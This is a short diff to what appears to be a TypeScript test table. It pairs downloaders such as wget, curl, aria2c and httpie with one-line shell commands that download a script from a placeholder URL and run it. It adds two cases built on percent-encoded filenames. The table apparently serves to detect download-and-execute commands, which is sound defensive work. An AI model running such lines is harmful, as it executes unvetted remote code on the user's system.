@@ -62,6 +62,9 @@ const RUNS: readonly (readonly [program: string, line: string])[] = [
   ["wget", "wget -q URL/i.sh; chmod +x i.sh; ./i.sh"],
   ["wget", "wget -q -P d URL/i.sh; sh d/i.sh"],
   ["wget", "wget -q --content-disposition URL/dl && sh i.sh"],
+  // curl keeps a percent-encoded name as it is, wget decodes it.
+  ["curl", "curl -sO URL/%73.sh && sh %73.sh"],
+  ["wget", "wget -q URL/%73.sh && sh s.sh"],
   ["wget2", "wget2 -q URL/i.sh && sh i.sh"],
   ["aria2c", "aria2c -q URL/i.sh && sh i.sh"],
   ["http", "http --ignore-stdin --quiet --download URL/i.sh && sh i.sh"],
